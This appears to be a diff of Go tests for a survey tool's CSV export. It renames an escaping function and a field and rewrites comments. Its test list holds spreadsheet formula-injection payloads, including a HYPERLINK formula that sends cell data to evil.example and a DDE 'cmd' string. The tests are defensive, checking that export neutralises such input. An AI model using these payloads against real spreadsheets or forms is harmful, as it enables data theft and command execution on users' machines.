@@ -24,7 +24,7 @@ import (
 	"glasspoll/internal/wording"
 )
 
-// today's questionnaire, and before it another, which asked two things otherwise.
+// today is the questionnaire in force, and before an older version, which asks two things in another way.
 const today = `
 id: service
 title: {en: "=Service", zh: 服务}
@@ -218,8 +218,8 @@ func TestOldVersions(t *testing.T) {
 		t.Errorf("labels: %v", rows)
 	}
 	for _, e := range p.Book().Entries {
-		if want := map[string]bool{"why.taste": true, "remark@number": true}[e.Name]; e.Before != want {
-			t.Errorf("%s: no longer asked %t", e.Name, e.Before)
+		if want := map[string]bool{"why.taste": true, "remark@number": true}[e.Name]; e.Retired != want {
+			t.Errorf("%s: retired %t", e.Name, e.Retired)
 		}
 		if e.Name == "overall" {
 			ids := ""
@@ -258,7 +258,7 @@ func TestPrivate(t *testing.T) {
 	}
 }
 
-// hostile are texts that somebody has typed with intent.
+// hostile are texts typed by attackers.
 var hostile = []string{
 	"=1+1", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "'quoted'",
 	"＝1+1", "－很好", "-5", "+8613800138000", "-12.75", "1e5", "00123", "a,b;c\td", `"quoted"`, "line\nbreak", "line\r\nbreak", " =1", "_x000D_ _x0041_", "<b>&amp;</b>",
@@ -309,15 +309,15 @@ func TestHostileTextsInCSV(t *testing.T) {
 	}
 }
 
-// TestHarmlessIsReversible: taking the apostrophe away gives back what was written, and no two texts become one.
-func TestHarmlessIsReversible(t *testing.T) {
+// TestEscapingIsReversible: removing the apostrophe restores the text, and no two texts become one.
+func TestEscapingIsReversible(t *testing.T) {
 	rapid.Check(t, func(t *rapid.T) {
 		text := rapid.OneOf(rapid.StringMatching(`[-=+@'0-9.\t]{0,6}`), rapid.String()).Draw(t, "text")
-		safe := export.Harmless(text)
+		safe := export.EscapeFormula(text)
 		if safe != text && safe != "'"+text {
 			t.Fatalf("%q became %q", text, safe)
 		}
-		if safe != text && export.Harmless(safe) == safe {
+		if safe != text && export.EscapeFormula(safe) == safe {
 			t.Fatalf("%q and %q are written alike", text, safe)
 		}
 	})
